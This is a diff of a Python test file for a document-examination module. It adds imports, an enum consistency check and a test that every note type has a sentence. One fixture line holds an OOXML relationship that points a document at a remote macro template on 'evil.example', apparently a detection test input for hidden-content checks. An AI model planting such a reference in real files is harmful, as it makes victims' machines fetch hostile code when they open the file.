@@ -7,7 +7,10 @@ import zlib
 import pytest
 from django.utils.http import content_disposition_header
 
+from articles.enums import DocumentKind
 from articles.filetypes import EXTENSIONS, Examined, download_name, examine
+from articles.filetypes import said as sentence
+from articles.filetypes.notes import SENTENCES, Note
 from tests.filetypes import made
 
 
@@ -28,7 +31,12 @@ TAKEN = {
 
 
 def test_every_kind_is_tried() -> None:
-    assert tuple(TAKEN) == EXTENSIONS
+    assert tuple(TAKEN) == EXTENSIONS == tuple(DocumentKind.values)
+
+
+def test_every_note_has_a_sentence() -> None:
+    assert set(SENTENCES) == set(Note) - {Note.NAMES}
+    assert sentence("of another time") == ""
 
 
 @pytest.mark.parametrize("kind", TAKEN)
@@ -106,7 +114,7 @@ RELATION = '<R><R Type="http://x/{kind}" Target="http://evil.example/t.dotm" Tar
 )  # fmt: skip
 def test_what_a_document_hides_is_said(data: bytes, said: str) -> None:
     (note,) = examined(data).notes
-    assert said in note
+    assert said in sentence(note)
 
 
 def test_links_and_linked_pictures_are_nothing_to_speak_of() -> None:
